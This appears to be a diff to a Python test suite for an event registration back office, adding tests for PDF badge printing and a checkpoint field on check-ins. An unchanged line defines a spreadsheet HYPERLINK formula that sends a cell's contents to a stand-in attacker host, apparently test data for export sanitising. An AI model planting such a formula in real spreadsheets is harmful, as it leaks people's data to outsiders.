@@ -16,6 +16,7 @@ from openpyxl import load_workbook
 from school.models import AuditEntry, CheckIn, RegistrationMeal, Session
 from tests.backoffice import Organiser, fresh, make_admin
 from tests.factories import make_choice, make_registration
+from tests.pdf_tools import pdf_text
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
@@ -61,9 +62,11 @@ def crowd(db, demo):
     now = datetime.now(UTC)
 
     def scan(person, client_id, session=None, **fields):
-        db.add(CheckIn(edition_id=demo.id, registration_id=person.id, day=demo.starts_on,
+        checkpoint = f"session:{session.id}" if session else f"entrance:{demo.dates[0]}"
+        db.add(CheckIn(edition_id=demo.id, registration_id=person.id, day=demo.dates[0],
                        session_id=session.id if session else None, scanned_at=now,
-                       client_id=client_id, verdict="ok", **fields))  # fmt: skip
+                       checkpoint=checkpoint, client_id=client_id, verdict="ok",
+                       **fields))  # fmt: skip
 
     for n, person in enumerate(people[:4]):
         scan(person, f"door-{n}")
@@ -215,3 +218,25 @@ def test_the_dashboard_draws_accessible_charts(organiser, demo, crowd):
     assert '<details class="numbers">' in html
     empty = organiser.page(f"/organiser/{demo.slug}/", lang="fr")
     assert "Inscriptions au fil du temps" in empty
+
+
+def test_print_badges_by_category_and_one_at_the_door(organiser, demo, crowd, db):
+    html = organiser.page(f"/organiser/{demo.slug}/exports")
+    assert 'id="badges"' in html and "Print the badges (PDF)" in html
+    response = organiser.get(f"/organiser/{demo.slug}/badges.pdf", category="member")
+    assert response.status_code == 200 and response.mimetype == "application/pdf"
+    text = pdf_text(response.data)
+    assert "Ève" in text and "Raquel" not in text  # Raquel is a speaker
+    response = organiser.get(f"/organiser/{demo.slug}/badges.pdf", category="press")
+    assert response.status_code == 302
+    assert "nothing to print" in organiser.page(response.headers["Location"])
+    one = organiser.get(f"/organiser/{demo.slug}/badges.pdf", registration=crowd[5].id)
+    assert one.status_code == 200 and "Raquel" in pdf_text(one.data)
+    page = organiser.page(f"/organiser/{demo.slug}/registrations/{crowd[5].id}")
+    assert f"badges.pdf?registration={crowd[5].id}" in page
+    entries = (
+        fresh(db)
+        .scalars(sa.select(AuditEntry.details).where(AuditEntry.action == "badges.printed"))
+        .all()
+    )
+    assert [e["count"] for e in entries] == [3, 1]
